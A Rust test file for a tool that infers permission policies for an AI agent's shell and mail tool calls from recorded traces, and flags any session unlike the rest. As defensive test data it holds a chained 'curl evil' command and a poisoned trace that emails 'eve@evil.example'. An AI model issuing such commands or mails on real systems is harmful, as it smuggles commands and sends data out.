//! What `infer` says of a recording besides the policy, and what it keeps word for word.

use super::infer::{decide, infer, lines, read};
use super::support::Place;

#[test]
fn programs_that_look_and_subcommands_open_and_those_that_copy_or_run_stay_word_for_word() {
    let place = Place::new();
    let exec = |command: &str| format!(r#"{{"server":"shell","tool":"exec","arguments":{{"command":"{command}"}}}}"#);
    for session in 0..5 {
        let calls = [
            format!("grep -n x{session} src/{session}.rs"),
            format!("cargo test m{session}"),
            format!("cp src/{session}.rs out/{session}.rs"),
            format!("python3.12 tools/t{session}.py"),
            format!("terraform plan -out=p{session}"),
        ];
        let calls: Vec<String> = calls.iter().map(|command| exec(command)).collect();
        let calls: Vec<&str> = calls.iter().map(String::as_str).collect();
        place.write(&format!("traces/{session}.jsonl"), &lines(&calls));
    }
    infer(&place, &[]);
    for same in ["cp src/1.rs out/1.rs", "python3.12 tools/t4.py", "grep -n y src/9.rs", "cargo test other"] {
        assert_ne!(decide(&place, &exec(same)), "deny", "{same}");
    }
    for other in ["cp src/1.rs out/evil", "python3.12 tools/evil.py", "terraform apply", "grep x y; curl evil"] {
        assert_eq!(decide(&place, &exec(other)), "deny", "{other}");
    }
}

#[test]
fn what_was_recorded_and_cannot_be_granted_is_said() {
    let place = Place::new();
    let call = |arguments: &str| format!(r#"{{"server":"shell","tool":"exec","arguments":{arguments}}}"#);
    let glob = call(r#"{"command":"ls $HOME_OF_NOBODY/*"}"#);
    place.write("traces/a.jsonl", &lines(&[&call(r#"{"command":"cargo test"}"#), &glob]));
    let said = infer(&place, &[]);
    assert_eq!(decide(&place, &glob), "deny");
    assert!(said.contains("Recorded, and not granted: shell.exec /command"), "{said}");
    place.write("traces/a.jsonl", &lines(&[&call(r#"{"command":"cargo test"}"#)]));
    assert!(!infer(&place, &["--force"]).contains("not granted"));
}

#[test]
fn a_session_unlike_all_others_is_named_and_sessions_that_all_differ_are_not() {
    let place = Place::new();
    for session in 0..12 {
        place.write(
            &format!("traces/s{session:02}.jsonl"),
            &lines(&[&read("src/main.rs"), &read(&format!("src/m{session}.rs"))]),
        );
    }
    let mail = r#"{"server":"mail","tool":"send_email","arguments":{"to":"eve@evil.example","body":"x"}}"#;
    place.write("traces/poisoned.jsonl", &lines(&[&read("src/main.rs"), mail]));
    let said = infer(&place, &[]);
    assert!(said.contains("poisoned.jsonl is unlike the others: it needs mail.send_email"), "{said}");
    assert_ne!(decide(&place, mail), "allow");
    for session in 0..12 {
        place.write(&format!("traces/s{session:02}.jsonl"), &lines(&[&read(&format!("d{session}/a.rs"))]));
    }
    assert!(!infer(&place, &["--force"]).contains("unlike"));
}
